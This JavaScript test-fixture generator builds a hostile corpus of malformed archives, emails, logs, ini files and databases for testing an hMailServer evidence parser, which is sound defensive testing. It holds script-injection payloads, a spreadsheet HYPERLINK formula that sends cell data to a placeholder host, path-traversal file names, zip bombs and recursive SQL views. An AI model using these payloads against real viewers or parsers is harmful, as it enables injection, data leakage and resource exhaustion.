/**
 * The hostile corpus (issue 15): malformed, lying, exhausting and injecting evidence in seven classes —
 * zip structure, messages, injected markup, database files, logs, ini files, resource exhaustion — each
 * case built next to good evidence that must survive it. `buildCorpus()` returns every case;
 * `randomCases(seed, n)` mutates good evidence at random (same seed, same bytes). Run as a script it
 * writes them to tests/.generated/hostile/ with a manifest. Never used by the app.
 */
import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import initSqlJs from 'sql.js';
import { mulberry32 } from './mulberry32.mjs';
import { buildZip, zip64Extra } from './rawZip.mjs';

const REPO = join(dirname(fileURLToPath(import.meta.url)), '..', '..');
export const CORPUS_DIR = join(REPO, 'tests', '.generated', 'hostile');

/** Set by every payload that manages to run; the browser suite asserts it never is. */
export const PWNED = '__hostilePwned';
const SCRIPT_PAYLOADS = [
  `<img src=x onerror="window.${PWNED}=1">`,
  `<script>window.${PWNED}=1</script>`,
  `<svg onload="window.${PWNED}=1">`,
  `"><iframe srcdoc="<script>parent.${PWNED}=1</script>">`,
  `javascript:window.${PWNED}=1`,
  `<a href="javascript:window.${PWNED}=1">x</a><style>@import url(http://example.invalid/x.css)</style>`,
];
const FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"open")';

const MiB = 1024 * 1024;
const enc = (s) => Buffer.from(s, 'utf8');
const latin1 = (s) => Buffer.from(s, 'latin1');

const guidOf = (n) => `{${(0x10000000 + n).toString(16).toUpperCase()}-0000-4000-8000-${String(n).padStart(12, '0')}}`;
export const goodPath = (n, account = 'alice') => `hMailServer/Data/example.com/${account}/${guidOf(n).slice(1, 3)}/${guidOf(n)}.eml`;

export function message(n, { headers = {}, body = `Body of message ${n}.\r\n`, raw = null } = {}) {
  if (raw) return raw;
  const h = {
    'Return-Path': '<alice@example.com>',
    Received: 'from mx.example.net ([192.0.2.10]) by mail.example.com with ESMTP; Mon, 13 May 2024 09:00:00 +0000',
    From: 'Alice <alice@example.com>',
    To: 'bob@example.com',
    Subject: `message ${n}`,
    'Message-ID': `<m${n}@example.com>`,
    Date: 'Mon, 13 May 2024 09:00:00 +0000',
    'MIME-Version': '1.0',
    'Content-Type': 'text/plain; charset=utf-8',
    ...headers,
  };
  const head = Object.entries(h)
    .filter(([, v]) => v !== null)
    .map(([k, v]) => `${k}: ${v}`)
    .join('\r\n');
  return Buffer.concat([enc(`${head}\r\n\r\n`), Buffer.isBuffer(body) ? body : enc(body)]);
}

const LOG_LINE = (i, ip = '192.0.2.7', text = 'RECEIVED: EHLO client') => `"SMTPD"\t4532\t${i}\t"2024-05-12 02:35:${String(i % 60).padStart(2, '0')}.970"\t"${ip}"\t"${text}"\r\n`;
const goodLog = () => enc(Array.from({ length: 6 }, (_, i) => LOG_LINE(i + 1)).join(''));
const INI = (extra = '') => enc(`[Directories]\r\nProgramFolder=C:\\Program Files\\hMailServer\r\nDataFolder=C:\\Program Files\\hMailServer\\Data\r\n[Database]\r\nType=MSSQLCE\r\nUsername=\r\nPassword=\r\nDatabase=hMailServer\r\n${extra}`);

/** Three good messages, a log and an ini: what every zip case carries so loss is visible. */
function goodFiles() {
  return [
    { name: goodPath(1), data: message(1) },
    { name: goodPath(2), data: message(2) },
    { name: goodPath(3), data: message(3) },
    { name: 'hMailServer/Logs/hmailserver_2024-05-12.log', data: goodLog() },
    { name: 'hMailServer/Bin/hMailServer.ini', data: INI() },
  ];
}
const GOOD_PATHS = goodFiles().map((f) => f.name);

const zipOf = (files, options) => buildZip(files, options);

let SQL = null;
/** A .7z made by 7-Zip itself (7z-wasm), of the given files. */
async function sevenZip(files) {
  const { default: SevenZip } = await import('7z-wasm');
  const sz = await SevenZip({ print: () => {}, printErr: () => {} });
  sz.FS.mkdir('/in');
  for (const [path, data] of Object.entries(files)) {
    const parts = path.split('/');
    for (let i = 1; i < parts.length; i++) {
      const dir = `/in/${parts.slice(0, i).join('/')}`;
      if (!sz.FS.analyzePath(dir).exists) sz.FS.mkdir(dir);
    }
    sz.FS.writeFile(`/in/${path}`, data);
  }
  sz.FS.chdir('/in');
  sz.callMain(['a', '-bd', '/out.7z', ...new Set(Object.keys(files).map((p) => p.split('/')[0]))]);
  return Buffer.from(sz.FS.readFile('/out.7z'));
}

async function sqlJs() {
  SQL ??= await initSqlJs();
  return SQL;
}

function sqlite(sql) {
  const db = new SQL.Database();
  db.exec(sql);
  const bytes = Buffer.from(db.export());
  db.close();
  return bytes;
}

const ACCOUNTS_DDL = 'CREATE TABLE hm_domains (domainid INTEGER PRIMARY KEY, domainname TEXT, domainactive INTEGER); INSERT INTO hm_domains VALUES (1, \'example.com\', 1);' +
  'CREATE TABLE hm_accounts (accountid INTEGER, accountdomainid INTEGER, accountaddress TEXT, accountactive INTEGER, accountpassword TEXT, accountpwencryption INTEGER);';

/**
 * @typedef {{ id: string, cls: string, title: string, files: { name: string, data: Buffer }[],
 *   good: string[], ci?: boolean, minAccounts?: number }} HostileCase
 * `good`: inventory paths that must still be read (status ok) whatever the hostile part does.
 */

/** @returns {Promise<HostileCase[]>} */
export async function buildCorpus() {
  await sqlJs();
  /** @type {HostileCase[]} */
  const cases = [];
  const add = (cls, id, title, files, good, extra = {}) => cases.push({ id: `${cls}/${id}`, cls, title, files, good, ...extra });
  const inZip = (cls, id, title, hostile, options = {}, extra = {}) =>
    add(cls, id, title, [{ name: 'case.zip', data: zipOf([...goodFiles(), ...hostile], options) }], options.good ?? GOOD_PATHS, extra);

  // ---- zip structure
  for (const k of [0, 2, 4]) {
    const files = goodFiles();
    const bad = { ...files[k], extra: zip64Extra(2n ** 64n - 1n, 2n ** 64n - 1n), sizes32: [0xffffffff, 0xffffffff] };
    files[k] = bad;
    add('zip', `zip64-max-entry-${k}`, `a ZIP64 field claiming 2^64-1 bytes on entry ${k} costs only that entry`, [{ name: 'case.zip', data: zipOf(files) }], GOOD_PATHS.filter((_, i) => i !== k), { ci: k === 2 });
  }
  for (const n of [2, 3]) {
    const parts = Array.from({ length: n }, (_, i) => zipOf(i === 0 ? goodFiles() : [{ name: goodPath(100 + i), data: message(100 + i) }]));
    add('zip', `concatenated-${n}`, `${n} zips joined in one file: every entry read`, [{ name: 'case.zip', data: Buffer.concat(parts) }], [...GOOD_PATHS, ...Array.from({ length: n - 1 }, (_, i) => goodPath(101 + i))], { ci: n === 2 });
  }
  for (const copies of [10, 1000]) {
    inZip('zip', `overlap-${copies}`, `${copies} central records point at one local header`, [{ name: 'dup.eml', data: message(9) }], {
      records: (r) => [...r, ...Array.from({ length: copies - 1 }, () => r[r.length - 1])],
    }, { ci: copies === 1000 });
  }
  for (const delta of [1, 4096, 2 ** 30, -20]) {
    inZip('zip', `eocd-offset-${delta}`, `end record's directory offset moved by ${delta}`, [], { directoryOffsetDelta: delta }, { ci: delta === 2 ** 30 });
  }
  const sound = zipOf(goodFiles());
  for (const keep of [0.1, 0.3, 0.5, 0.7, 0.9, 0.99]) {
    const cut = Math.floor(sound.length * keep);
    const good = keep >= 0.9 ? GOOD_PATHS : [];
    add('zip', `truncated-${keep}`, `zip cut at ${keep * 100}%`, [{ name: 'case.zip', data: sound.subarray(0, cut) }, { name: 'loose.eml', data: message(50) }], ['loose.eml', ...good], { ci: keep === 0.5 });
  }
  for (const [i, what] of [[0, 'crc'], [1, 'deflate'], [2, 'encrypted'], [3, 'method-14'], [4, 'method-99']]) {
    const files = [...goodFiles(), { name: `hMailServer/Data/example.com/alice/ZZ/${guidOf(200 + i)}.eml`, data: message(200 + i) }];
    let bytes = zipOf(files, {
      records: (r) => r.map((x, j) => (j !== r.length - 1 ? x : what === 'crc' ? { ...x, crc: (x.crc ^ 0xff) >>> 0 } : what === 'encrypted' ? { ...x, flags: x.flags | 1 } : what.startsWith('method') ? { ...x, method: Number(what.slice(7)) } : x)),
    });
    if (what === 'deflate') {
      const at = bytes.lastIndexOf(Buffer.from(`${guidOf(200 + i)}.eml`)) ;
      bytes = Buffer.from(bytes);
      const local = bytes.indexOf(Buffer.from(`${guidOf(200 + i)}.eml`));
      for (let j = local + 60; j < local + 70 && j < at; j++) bytes[j] ^= 0xa5;
    }
    add('zip', `entry-${what}`, `one entry with ${what}: only it is lost, with a parse-error`, [{ name: 'case.zip', data: bytes }], GOOD_PATHS, { ci: what === 'crc' });
  }
  inZip('zip', 'same-path-10000', '10,000 entries with the same path', Array.from({ length: 10_000 }, () => ({ name: 'same/path.txt', data: enc('x') })), {}, { ci: true });
  for (const name of ['../../../etc/passwd.eml', 'C:/Windows/evil.eml', '/abs/evil.eml', 'a\\b\\c.eml', `${'d/'.repeat(200)}deep.eml`, `${'n'.repeat(3000)}.eml`, ' .eml', 'nul\u0000name.eml', 'ü/ünïcödé.eml', '%2e%2e/x.eml']) {
    inZip('zip', `name-${Buffer.from(name).toString('hex').slice(0, 16)}`, `entry name ${JSON.stringify(name.slice(0, 40))}`, [{ name, data: message(7) }], {}, { ci: name.startsWith('../') });
  }
  inZip('zip', 'prepended-sfx', 'a zip after an executable stub', [], {}, {});
  cases[cases.length - 1].files[0].data = Buffer.concat([Buffer.from('MZ' + '\0'.repeat(4000)), cases[cases.length - 1].files[0].data]);
  inZip('zip', 'appended-garbage', 'garbage after the end record', [], {}, {});
  cases[cases.length - 1].files[0].data = Buffer.concat([cases[cases.length - 1].files[0].data, Buffer.alloc(5000, 0x41)]);
  add('zip', 'not-a-zip', 'a .zip that is text', [{ name: 'case.zip', data: enc('hello, not a zip'.repeat(100)) }, { name: 'ok.eml', data: message(60) }], ['ok.eml']);
  add('zip', 'only-eocd', 'an end record and nothing else', [{ name: 'case.zip', data: Buffer.from([0x50, 0x4b, 5, 6, ...new Array(18).fill(0)]) }, { name: 'ok.eml', data: message(61) }], ['ok.eml']);
  add('zip', 'local-header-only', 'local header signature then noise', [{ name: 'case.zip', data: Buffer.concat([Buffer.from([0x50, 0x4b, 3, 4]), Buffer.alloc(200, 0xff)]) }, { name: 'ok.eml', data: message(62) }], ['ok.eml']);
  for (const depth of [3, 6, 10]) {
    let inner = zipOf([{ name: 'bottom.eml', data: message(70) }]);
    for (let d = 1; d < depth; d++) inner = zipOf([{ name: `level${d}.zip`, data: inner }]);
    add('zip', `nested-${depth}`, `zips nested ${depth} deep`, [{ name: 'case.zip', data: zipOf([...goodFiles(), { name: 'nest.zip', data: inner }]) }], GOOD_PATHS, { ci: depth === 10 });
  }
  inZip('zip', 'lying-small-size', 'an entry declares 100 bytes and inflates to 4 MiB', [{ name: 'liar.bin', data: Buffer.alloc(4 * MiB, 7), sizes32: [100, 0] }], {
    records: (r) => r.map((x) => (x.name.toString() === 'liar.bin' ? { ...x, usize: 100 } : x)),
  });
  inZip('zip', 'directory-entries-only', 'folders with data', [{ name: 'folder/', data: enc('not empty') }]);
  inZip('zip', 'zero-length-message', 'a zero-length .eml in the store', [{ name: goodPath(80), data: Buffer.alloc(0) }]);

  // ---- messages
  const messageCases = [
    ['nul-body', 'two NUL bytes in the body', message(300, { body: Buffer.concat([enc('Hello '), Buffer.from([0, 0]), enc(' world\r\n')]) })],
    ['nul-header', 'a NUL in a header', message(301, { headers: { Subject: 'a\u0000b' } })],
    ['invalid-utf8', 'invalid UTF-8 everywhere', message(302, { headers: { Subject: latin1('\xff\xfe\xc3\x28 bad') }, body: Buffer.from([0xc3, 0x28, 0xa0, 0xa1, 0xe2, 0x28, 0xa1, 0xf0, 0x28, 0x8c, 0xbc]) })],
    ['garbled-body', 'a header block then 3 KB of control bytes', message(303, { body: Buffer.from(Array.from({ length: 3000 }, (_, i) => i % 31)) })],
    ['header-1mb', 'a 1 MB header line', message(304, { headers: { 'X-Long': 'A'.repeat(MiB) } })],
    ['headers-10000', '10,000 headers', message(305, { headers: Object.fromEntries(Array.from({ length: 10_000 }, (_, i) => [`X-H${i}`, `v${i}`])) })],
    ['mime-depth-200', 'MIME nested 200 deep', message(306, { headers: { 'Content-Type': 'multipart/mixed; boundary="b0"' }, body: Array.from({ length: 200 }, (_, i) => `--b${i}\r\nContent-Type: multipart/mixed; boundary="b${i + 1}"\r\n\r\n`).join('') + 'deep\r\n' })],
    ['parts-5000', '5,000 MIME parts', message(307, { headers: { 'Content-Type': 'multipart/mixed; boundary="p"' }, body: Array.from({ length: 5000 }, (_, i) => `--p\r\nContent-Type: text/plain\r\n\r\npart ${i}\r\n`).join('') + '--p--\r\n' })],
    ['boundary-unclosed', 'a multipart that never closes', message(308, { headers: { 'Content-Type': 'multipart/mixed; boundary="x"' }, body: '--x\r\nContent-Type: text/plain\r\n\r\nopen' })],
    ['boundary-missing', 'multipart without a boundary parameter', message(309, { headers: { 'Content-Type': 'multipart/mixed' }, body: 'no parts\r\n' })],
    ['base64-garbage', 'base64 body that is not base64', message(310, { headers: { 'Content-Transfer-Encoding': 'base64' }, body: '!!!@@@###$$$%%%^^^\r\n'.repeat(100) })],
    ['charset-bogus', 'an unknown charset', message(311, { headers: { 'Content-Type': 'text/plain; charset=x-no-such-charset' }, body: 'caf\xe9\r\n' })],
    ['encoded-word-bomb', '5,000 encoded words in the subject', message(312, { headers: { Subject: Array.from({ length: 5000 }, () => '=?utf-8?B?YWFh?=').join(' ') } })],
    ['date-garbage', 'an impossible Date', message(313, { headers: { Date: 'Feb 31 99999 25:61:61 +9999' } })],
    ['received-1000', '1,000 Received hops', Buffer.concat([enc(Array.from({ length: 1000 }, (_, i) => `Received: from h${i} by h${i + 1}; Mon, 13 May 2024 09:00:${String(i % 60).padStart(2, '0')} +0000\r\n`).join('')), message(314)])],
    ['headers-only', 'headers and no body separator', enc('From: a@example.com\r\nTo: b@example.com\r\nSubject: only headers')],
    ['cr-only', 'CR-only line ends', enc('From: a@example.com\rTo: b@example.com\rSubject: cr\r\rbody\r')],
    ['no-newline-1mb', 'one 1 MB line without a newline', enc('From: a@example.com\r\nSubject: x\r\n\r\n' + 'z'.repeat(MiB))],
    ['png-as-eml', 'a PNG named like a message file', Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.alloc(500, 1)])],
    ['empty-eml', 'an empty message file', Buffer.alloc(0)],
    ['attachment-exe-as-pdf', 'an MZ attachment declared as PDF', message(315, { headers: { 'Content-Type': 'multipart/mixed; boundary="a"' }, body: `--a\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n--a\r\nContent-Type: application/pdf; name="invoice.pdf"\r\nContent-Disposition: attachment; filename="invoice.pdf"\r\nContent-Transfer-Encoding: base64\r\n\r\n${Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200)]).toString('base64')}\r\n--a--\r\n` })],
    ['attachment-zip-bomb', 'a zip bomb as an attachment', message(316, { headers: { 'Content-Type': 'multipart/mixed; boundary="a"' }, body: `--a\r\nContent-Type: text/plain\r\n\r\nx\r\n--a\r\nContent-Type: application/zip; name="b.zip"\r\nContent-Transfer-Encoding: base64\r\n\r\n${zipOf(Array.from({ length: 20 }, (_, i) => ({ name: `z${i}.bin`, data: Buffer.alloc(2 * MiB) }))).toString('base64')}\r\n--a--\r\n` })],
    ['utf16-message', 'a UTF-16 message file', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('From: a@example.com\r\nSubject: u16\r\n\r\nbody\r\n', 'utf16le')])],
    ['dkim-garbage', 'a DKIM-Signature of garbage', message(317, { headers: { 'DKIM-Signature': 'v=1; a=rsa-sha256; b=!!!; bh=???; d=; s=; h=' + 'from:'.repeat(1000) } })],
    ['html-only-huge', 'a 2 MB HTML body', message(318, { headers: { 'Content-Type': 'text/html' }, body: '<div>'.repeat(200_000) })],
  ];
  for (const [id, title, data] of messageCases) {
    const path = `hMailServer/Data/example.com/alice/ZZ/${guidOf(9000 + cases.length)}.eml`;
    // Not messages at all (hMailServer never writes UTF-16): they must be reported, not read as mail.
    const keepsMessage = !['png-as-eml', 'empty-eml', 'utf16-message'].includes(id);
    add('message', id, title, [{ name: 'case.zip', data: zipOf([...goodFiles(), { name: path, data }]) }], keepsMessage ? [...GOOD_PATHS, path] : GOOD_PATHS, {
      ci: ['nul-body', 'mime-depth-200', 'png-as-eml', 'attachment-zip-bomb'].includes(id),
    });
  }

  // ---- injected markup, in every field a view renders
  SCRIPT_PAYLOADS.forEach((p, i) => {
    const fields = {
      subject: { headers: { Subject: p } },
      from: { headers: { From: `"${p}" <evil@example.com>` } },
      to: { headers: { To: `"${p}" <x@example.com>` } },
      'message-id': { headers: { 'Message-ID': `<${p}@example.com>` } },
      received: { headers: { Received: `from ${p} ([192.0.2.1]) by mail.example.com; Mon, 13 May 2024 09:00:00 +0000` } },
      'reply-to': { headers: { 'Reply-To': `${p} <r@example.org>` } },
      'x-header': { headers: { 'X-Spam-Status': p } },
      'html-body': { headers: { 'Content-Type': 'text/html' }, body: `<html><body>${p}<meta http-equiv="refresh" content="0;url=http://example.invalid/"><img src="http://example.invalid/t.gif">${p}</body></html>` },
      'attachment-name': { headers: { 'Content-Type': 'multipart/mixed; boundary="a"' }, body: `--a\r\nContent-Type: text/plain\r\n\r\nx\r\n--a\r\nContent-Type: application/octet-stream; name="${p.replaceAll('"', "'")}.exe"\r\nContent-Disposition: attachment; filename="${p.replaceAll('"', "'")}.pdf.exe"\r\n\r\nMZ\r\n--a--\r\n` },
    };
    for (const [field, opts] of Object.entries(fields)) {
      const path = `hMailServer/Data/example.com/alice/XS/${guidOf(20_000 + i * 100 + cases.length)}.eml`;
      add('markup', `${field}-${i}`, `payload ${i} in ${field}`, [{ name: 'case.zip', data: zipOf([...goodFiles(), { name: path, data: message(400 + i, opts) }]) }], [...GOOD_PATHS, path], {
        ci: i === 0 && ['subject', 'from', 'received', 'html-body', 'attachment-name'].includes(field),
      });
    }
    add('markup', `log-${i}`, `payload ${i} in log fields`, [{ name: 'case.zip', data: zipOf([...goodFiles(), { name: 'hMailServer/Logs/hmailserver_2024-05-13.log', data: enc(LOG_LINE(1, p.replaceAll('"', "'"), `RECEIVED: AUTH PLAIN ${Buffer.from(`\0${p}\0${FORMULA}`).toString('base64')}`) + LOG_LINE(2, '192.0.2.9', `RECEIVED: MAIL FROM:<${p.replaceAll('"', "'")}>`)) }]) }], GOOD_PATHS, { ci: i === 1 });
    add('markup', `entry-name-${i}`, `payload ${i} as a zip entry name`, [{ name: 'case.zip', data: zipOf([...goodFiles(), { name: `${p}.txt`, data: enc(FORMULA) }]) }], GOOD_PATHS, { ci: i === 0 });
    add('markup', `ini-${i}`, `payload ${i} in ini values`, [{ name: 'hMailServer.ini', data: INI(`[Settings]\r\nName=${p}\r\nAdmin=${FORMULA}\r\n`) }, { name: 'ok.eml', data: message(500 + i) }], ['ok.eml', 'hMailServer.ini']);
    add('markup', `db-${i}`, `payload ${i} in database accounts, domains and folders`, [
      { name: 'hMailServer.sqlite', data: sqlite(`${ACCOUNTS_DDL} INSERT INTO hm_accounts VALUES (1, 1, '${p.replaceAll("'", "''")}@example.com', 1, '${FORMULA.replaceAll("'", "''")}', 0); CREATE TABLE hm_imapfolders (folderid INTEGER PRIMARY KEY, folderaccountid INTEGER, folderparentid INTEGER, foldername TEXT); INSERT INTO hm_imapfolders VALUES (1, 1, -1, '${p.replaceAll("'", "''")}');`) },
      { name: 'ok.eml', data: message(600 + i) },
    ], ['ok.eml', 'hMailServer.sqlite'], { ci: i === 0, minAccounts: 1 });
  });
  add('markup', 'zone-txt', 'markup in a DNS zone TXT record', [{ name: 'example.com.zone', data: enc(`$ORIGIN example.com.\n@ 3600 IN TXT "${SCRIPT_PAYLOADS[0].replaceAll('"', "'")}"\n`) }, { name: 'ok.eml', data: message(700) }], ['ok.eml']);
  add('markup', 'csv-formula-subject', 'a formula as a subject', [{ name: 'ok.eml', data: message(701, { headers: { Subject: FORMULA } }) }], ['ok.eml'], { ci: true });

  // ---- database files
  const accounts = (rows) => sqlite(`${ACCOUNTS_DDL} ${rows}`);
  const dbCases = [
    ['foreign-sqlite', 'a browser history database', sqlite('CREATE TABLE moz_places (id INTEGER PRIMARY KEY, url TEXT); INSERT INTO moz_places VALUES (1, \'http://example.com\');'), 0],
    ['views-recursive', 'hm_* tables as endless recursive views', sqlite(`${ACCOUNTS_DDL} INSERT INTO hm_accounts VALUES (1,1,'a@example.com',1,'',0); CREATE VIEW hm_messages AS WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n+1 FROM r) SELECT n AS messageid FROM r; CREATE VIEW hm_imapfolders AS WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n+1 FROM r) SELECT n AS folderid FROM r;`), 1],
    ['dup-null-ids', 'hm_accounts with duplicate and NULL ids', accounts("INSERT INTO hm_accounts VALUES (1,1,'a@example.com',1,'',0),(1,1,'dup@example.com',1,'',0),(NULL,1,'null@example.com',1,'',0),(NULL,1,'null2@example.com',1,'',0),(2,1,'b@example.com',1,'',0);"), 2],
    ['wrong-columns', 'hm_accounts with wrong columns', sqlite("CREATE TABLE hm_accounts (accountid TEXT, bogus BLOB, accountaddress INTEGER); INSERT INTO hm_accounts VALUES ('x', x'00ff', 12345), ('2', NULL, 'b@example.com');"), 0],
    ['corrupt-body', 'an SQLite header then garbage', Buffer.concat([Buffer.from('SQLite format 3\0'), Buffer.alloc(1024 - 16, 0x5a)]), 0],
    ['truncated-sqlite', 'an SQLite file cut in half', accounts("INSERT INTO hm_accounts VALUES (1,1,'a@example.com',1,'',0);").subarray(0, 3000), 0],
    ['missing-files-20000', '20,000 hm_messages rows whose files are absent', sqlite(`${ACCOUNTS_DDL} INSERT INTO hm_accounts VALUES (1,1,'alice@example.com',1,'',0); CREATE TABLE hm_messages (messageid INTEGER PRIMARY KEY, messageaccountid INTEGER, messagefolderid INTEGER, messagefilename TEXT, messagetype INTEGER, messagesize INTEGER, messagecreatetime TEXT, messageuid INTEGER, messageflags INTEGER); WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n+1 FROM r WHERE n < 20000) INSERT INTO hm_messages SELECT n, 1, 1, printf('{%08X-0000-4000-8000-000000000000}.eml', n), 2, 100, '2024-05-13 09:00:00', n, 0 FROM r;`), 1],
  ];
  for (const [id, title, data, minAccounts] of dbCases) {
    add('database', id, title, [{ name: 'hMailServer.sqlite', data }, { name: 'ok.eml', data: message(800 + cases.length) }], ['ok.eml'], { ci: ['foreign-sqlite', 'views-recursive', 'dup-null-ids', 'missing-files-20000'].includes(id), minAccounts });
  }
  add('database', 'bad-sqlite-beside-zip', 'a corrupt 1 KB bad.sqlite dropped beside a case zip with a real database', [
    { name: 'bad.sqlite', data: Buffer.concat([Buffer.from('SQLite format 3\0'), Buffer.alloc(1008, 0x33)]) },
    { name: 'case.zip', data: zipOf([...goodFiles(), { name: 'hMailServer/Database/hMailServer.sqlite', data: accounts("INSERT INTO hm_accounts VALUES (1,1,'alice@example.com',1,'',0);") }]) },
  ], GOOD_PATHS, {
    ci: true,
    minAccounts: 1,
  });
  const myInsert = (id) => `INSERT INTO \`hm_accounts\` (\`accountid\`,\`accountdomainid\`,\`accountaddress\`) VALUES (${id},1,'u${id}@example.com');`;
  const dumps = [
    ['mysql-deep-first', 'a MySQL dump opening with a 2 MB nested statement', `SELECT ${'('.repeat(MiB)}1${')'.repeat(MiB)};\n-- MySQL dump 10.13\n${myInsert(1)}\n${myInsert(2)}\n`, 2],
    ['mysql-truncated', 'a MySQL dump cut mid-statement', `-- MySQL dump 10.13\n${myInsert(1)}\nINSERT INTO \`hm_accounts\` VALUES (2,1,'cut`, 1],
    ['mysql-garbage-middle', 'a garbage statement between good ones', `-- MySQL dump 10.13\n${myInsert(1)}\nTHIS IS NOT SQL (((;\n${myInsert(2)}\n`, 2],
    ['mysql-unterminated-string', 'a string that never ends', `-- MySQL dump 10.13\n${myInsert(1)}\nINSERT INTO \`hm_accounts\` VALUES (2,1,'${'x'.repeat(100_000)}`, 1],
    ['mssql-truncated', 'a SQL Server script cut between statements', `SET IDENTITY_INSERT [dbo].[hm_accounts] ON\nGO\nINSERT [dbo].[hm_accounts] ([accountid], [accountdomainid], [accountaddress]) VALUES (1, 1, N'a@example.com')\nINSERT [dbo].[hm_accounts] ([accountid], [accountdomainid], [accountaddress]) VALUES (2, 1, N'b@example.com')\n`, 2],
    ['mssql-truncated-mid', 'a SQL Server script cut mid-statement', `SET IDENTITY_INSERT [dbo].[hm_accounts] ON\nGO\nINSERT [dbo].[hm_accounts] ([accountid], [accountdomainid], [accountaddress]) VALUES (1, 1, N'a@example.com')\nINSERT [dbo].[hm_accounts] ([accountid], [accountdomainid], [accou`, 1],
    ['pgsql-bad-copy', 'a pg_dump with broken COPY rows', `-- PostgreSQL database dump\nCOPY public.hm_accounts (accountid, accountdomainid, accountaddress) FROM stdin;\n1\t1\ta@example.com\nnot\ta\trow\twith\ttoo\tmany\n2\t1\tb@example.com\n\\.\n`, 2],
  ];
  dumps.push(['mysql-value-nesting', 'a MySQL INSERT whose value nests {ts …} 200,000 deep', `-- MySQL dump 10.13\n${myInsert(1)}\nINSERT INTO \`hm_accounts\` VALUES (2,1,${'{ts '.repeat(200_000)}'x'${'}'.repeat(200_000)});\n${myInsert(3)}\n`, 2]);
  for (const [id, title, text, minAccounts] of dumps) {
    add('database', id, title, [{ name: 'hmail-dump.sql', data: enc(text) }, { name: 'ok.eml', data: message(900 + cases.length) }], ['ok.eml'], { ci: ['mysql-deep-first', 'mssql-truncated', 'mysql-value-nesting'].includes(id), minAccounts });
  }
  const deepXml = (depth) => `<?xml version="1.0"?>\n<Backup>${'<Domains>'.repeat(depth)}${'</Domains>'.repeat(depth)}</Backup>\n`;
  add('database', 'backup-xml-deep', 'an hMailServerBackup.xml nested 500,000 elements deep', [{ name: 'hMailServerBackup.xml', data: enc(deepXml(500_000)) }, { name: 'ok.eml', data: message(960) }], ['ok.eml'], { ci: true });
  add('database', 'backup-7z-deep-xml', 'an HMBackup .7z whose XML is nested 100,000 deep, with a message in DataBackup/', [
    { name: 'HMBackup 2024-05-20 094107.7z', data: await sevenZip({ 'hMailServerBackup.xml': enc(deepXml(100_000)), 'DataBackup/example.com/m.eml': message(961) }) },
    { name: 'ok.eml', data: message(962) },
  ], ['ok.eml', 'HMBackup 2024-05-20 094107.7z/DataBackup/example.com/m.eml'], { ci: true });

  // ---- logs
  const logs = [
    ['line-10mb', 'one 10 MB log line', enc(`${LOG_LINE(1)}"SMTPD"\t1\t2\t"2024-05-12 02:35:41.000"\t"192.0.2.1"\t"${'A'.repeat(10 * MiB)}"\r\n${LOG_LINE(3)}`)],
    ['binary', 'a log of random bytes after a good line', Buffer.concat([enc(LOG_LINE(1)), Buffer.from(Array.from({ length: 100_000 }, (_, i) => (i * 7919) & 0xff))])],
    ['nul-bytes', 'NUL bytes inside log lines', enc(LOG_LINE(1) + `"SMTPD"\t1\t2\t"2024-05-12 02:35:41.000"\t"192.0.2.1"\t"a\u0000b\u0000c"\r\n` + LOG_LINE(3))],
    ['utf16-odd', 'a UTF-16 log with an odd byte count', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(LOG_LINE(1) + LOG_LINE(2), 'utf16le'), Buffer.from([0x41])])],
    ['bad-times', 'impossible timestamps', enc(LOG_LINE(1).replace('2024-05-12 02:35:01', '9999-99-99 99:99:99') + LOG_LINE(2))],
    ['sessions-50000', '50,000 one-line sessions', enc(Array.from({ length: 50_000 }, (_, i) => `"SMTPD"\t${i}\t${i}\t"2024-05-12 02:35:40.970"\t"192.0.2.${i % 250}"\t"RECEIVED: EHLO c"\r\n`).join(''))],
    ['auth-garbage', 'AUTH PLAIN with garbage base64', enc(LOG_LINE(1, '192.0.2.7', 'RECEIVED: AUTH PLAIN %%%!!!***') + LOG_LINE(2, '192.0.2.7', 'RECEIVED: AUTH LOGIN') + LOG_LINE(3, '192.0.2.7', 'RECEIVED: ////'))],
    ['cr-only', 'CR-only line ends', enc((LOG_LINE(1) + LOG_LINE(2)).replaceAll('\r\n', '\r'))],
    ['brute-force-10000', '10,000 failed logons', enc(Array.from({ length: 10_000 }, (_, i) => LOG_LINE(i, `198.51.100.${i % 200}`, 'SENT: 535 Authentication failed')).join(''))],
  ];
  for (const [id, title, data] of logs) {
    add('log', id, title, [{ name: 'case.zip', data: zipOf([...goodFiles(), { name: `hMailServer/Logs/hmailserver_2024-05-1${cases.length % 9}.log`, data }]) }], GOOD_PATHS, { ci: ['line-10mb', 'binary', 'sessions-50000'].includes(id) });
  }

  // ---- ini files
  const inis = [
    ['huge', 'a 2 MB ini', enc(`[Directories]\r\n${'X=1\r\n'.repeat(400_000)}`)],
    ['binary', 'an ini of binary bytes', Buffer.concat([enc('[Database]\r\n'), Buffer.from(Array.from({ length: 5000 }, (_, i) => i & 0xff))])],
    ['bad-password', 'a password field that is not Blowfish hex', INI('[Security]\r\nAdministratorPassword=ZZZZ\r\n').toString().replace('Password=\r\n', `Password=${'Q'.repeat(5000)}\r\n`)],
    ['duplicate-sections', 'every section twice', Buffer.concat([INI(), INI()])],
    ['no-sections', 'key lines without a section', enc('DataFolder=C:\\x\r\n[Database]\r\n')],
    ['utf16', 'a UTF-16 ini', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(INI().toString(), 'utf16le')])],
    ['long-line', 'a 1 MB ini line', INI(`[Directories]\r\nLogFolder=${'L'.repeat(MiB)}\r\n`)],
  ];
  for (const [id, title, data] of inis) {
    add('ini', id, title, [{ name: 'case.zip', data: zipOf([...goodFiles().slice(0, 4), { name: 'hMailServer/Bin/hMailServer.ini', data: Buffer.isBuffer(data) ? data : enc(data) }]) }], GOOD_PATHS.slice(0, 4), { ci: id === 'binary' });
  }
  add('ini', 'two-inis', 'two hMailServer.ini files', [{ name: 'case.zip', data: zipOf([...goodFiles(), { name: 'other/hMailServer.ini', data: INI() }]) }], GOOD_PATHS);

